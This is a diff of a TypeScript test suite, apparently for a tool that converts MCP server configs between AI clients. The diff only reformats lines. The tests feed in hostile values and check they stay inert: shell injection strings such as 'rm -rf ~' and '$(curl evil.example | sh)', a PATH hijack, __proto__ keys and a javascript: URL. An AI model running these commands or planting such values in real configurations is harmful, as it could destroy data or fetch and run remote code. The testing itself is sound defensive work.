@@ -26,13 +26,19 @@ const stdioOf = (input: ServerInput | undefined) => {
 describe('hostile client config files', () => {
   it('shell metacharacters in args stay literal argv strings: nothing is expanded or run', () => {
     const { servers } = cursor.parse(fixture('hostile/metacharacters.json'));
-    const innocent = convert(servers.find((s) => s.name === 'innocent')!, { env: { HOME: '/home/ada' }, existing: [] });
+    const innocent = convert(
+      servers.find((s) => s.name === 'innocent')!,
+      { env: { HOME: '/home/ada' }, existing: [] },
+    );
     const input = stdioOf(innocent.input);
     const literal = ['server.js; rm -rf ~', '$(curl evil.example | sh)', '`id`', 'a && b | c > /etc/passwd', '$HOME', '%USERPROFILE%'];
     expect(input.args).toEqual(literal);
     expect(input.env).toEqual([{ name: 'PATH', value: '/tmp/evil:$PATH', secret: false }]);
     // Launched the way Switchboard launches (an argv array, no shell), a child sees exactly those strings.
-    const echoed = spawnSync(process.execPath, ['-e', 'process.stdout.write(JSON.stringify(process.argv.slice(1)))', ...input.args!], { encoding: 'utf8', shell: false });
+    const echoed = spawnSync(process.execPath, ['-e', 'process.stdout.write(JSON.stringify(process.argv.slice(1)))', ...input.args!], {
+      encoding: 'utf8',
+      shell: false,
+    });
     expect(JSON.parse(echoed.stdout)).toEqual(literal);
   });
 
@@ -41,7 +47,9 @@ describe('hostile client config files', () => {
     expect(servers.map((s) => s.name)).toEqual(['innocent', '__proto__', 'constructor']);
     expect(({} as Record<string, unknown>).command).toBeUndefined();
     expect(Object.prototype).not.toHaveProperty('command');
-    const written = cursor.write(undefined, [{ name: '__proto__', transport: 'stdio', command: 'a', args: [], env: [{ name: '__proto__', value: 'x', secret: false }] }]);
+    const written = cursor.write(undefined, [
+      { name: '__proto__', transport: 'stdio', command: 'a', args: [], env: [{ name: '__proto__', value: 'x', secret: false }] },
+    ]);
     expect(cursor.parse(written.text).servers).toMatchObject([{ name: '__proto__', command: 'a', env: [{ name: '__proto__', value: 'x' }] }]);
   });
 
@@ -57,7 +65,9 @@ describe('hostile client config files', () => {
       ok: 'imported',
     });
     // Nor can a javascript: URL be exported into a client's file.
-    expect(cursor.write(undefined, [{ name: 'js', transport: 'http', url: 'javascript:alert(1)', mode: 'auto', headers: [] }]).refused[0]!.reason).toMatch(/Only http\(s\)/);
+    expect(cursor.write(undefined, [{ name: 'js', transport: 'http', url: 'javascript:alert(1)', mode: 'auto', headers: [] }]).refused[0]!.reason).toMatch(
+      /Only http\(s\)/,
+    );
   });
 
   it('variables are substituted, never evaluated: ${command:…} stays unresolved, a default of $(id) stays text', () => {
@@ -95,10 +105,16 @@ describe('hostile client config files', () => {
     const parsed = windsurf.parse(many);
     expect(parsed.servers).toHaveLength(500);
     expect(parsed.problems.at(-1)!.reason).toMatch(/More than 500 servers/);
-    const long = JSON.stringify({ mcpServers: { a: { command: 'x'.repeat(5000) }, b: { command: 'x', args: Array(300).fill('y') }, ['n'.repeat(101)]: { command: 'x' } } });
+    const long = JSON.stringify({
+      mcpServers: { a: { command: 'x'.repeat(5000) }, b: { command: 'x', args: Array(300).fill('y') }, ['n'.repeat(101)]: { command: 'x' } },
+    });
     const capped = windsurf.parse(long);
     expect(capped.servers).toEqual([]);
-    expect(capped.problems.map((p) => p.reason)).toEqual([expect.stringMatching(/longer than 4096/), expect.stringMatching(/More than 256 arguments/), expect.stringMatching(/longer than 100 characters/)]);
+    expect(capped.problems.map((p) => p.reason)).toEqual([
+      expect.stringMatching(/longer than 4096/),
+      expect.stringMatching(/More than 256 arguments/),
+      expect.stringMatching(/longer than 100 characters/),
+    ]);
   });
 
   it('an envFile or config path naming a FIFO or a device is not read (it would block or never end)', () => {
@@ -120,7 +136,16 @@ describe('exporting into a client’s file', () => {
   const token = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789';
 
   it('a secret is never written in plaintext without confirmation for that value', () => {
-    const entry = { name: 'gh', transport: 'stdio' as const, command: 'npx', args: [], env: [{ name: 'A_TOKEN', value: token, secret: true }, { name: 'B_TOKEN', value: token, secret: true, plaintextConfirmed: true }] };
+    const entry = {
+      name: 'gh',
+      transport: 'stdio' as const,
+      command: 'npx',
+      args: [],
+      env: [
+        { name: 'A_TOKEN', value: token, secret: true },
+        { name: 'B_TOKEN', value: token, secret: true, plaintextConfirmed: true },
+      ],
+    };
     // Confirming one value does not confirm another.
     expect(claudeDesktop.write(undefined, [entry]).refused[0]!.reason).toMatch(/A_TOKEN is a secret/);
     for (const write of [cursor.write, vscode.write]) {
@@ -130,7 +155,15 @@ describe('exporting into a client’s file', () => {
   });
 
   it('Claude Desktop never receives a remote server’s URL or token', () => {
-    const result = claudeDesktop.write(fixture('claude-desktop/claude_desktop_config.json'), [{ name: 'r', transport: 'http', url: 'https://example.com/mcp', mode: 'auto', headers: [{ name: 'Authorization', value: `Bearer ${token}`, secret: true, plaintextConfirmed: true }] }]);
+    const result = claudeDesktop.write(fixture('claude-desktop/claude_desktop_config.json'), [
+      {
+        name: 'r',
+        transport: 'http',
+        url: 'https://example.com/mcp',
+        mode: 'auto',
+        headers: [{ name: 'Authorization', value: `Bearer ${token}`, secret: true, plaintextConfirmed: true }],
+      },
+    ]);
     expect(result.written).toEqual([]);
     expect(result.text).not.toContain('example.com');
     expect(result.text).not.toContain('Bearer');
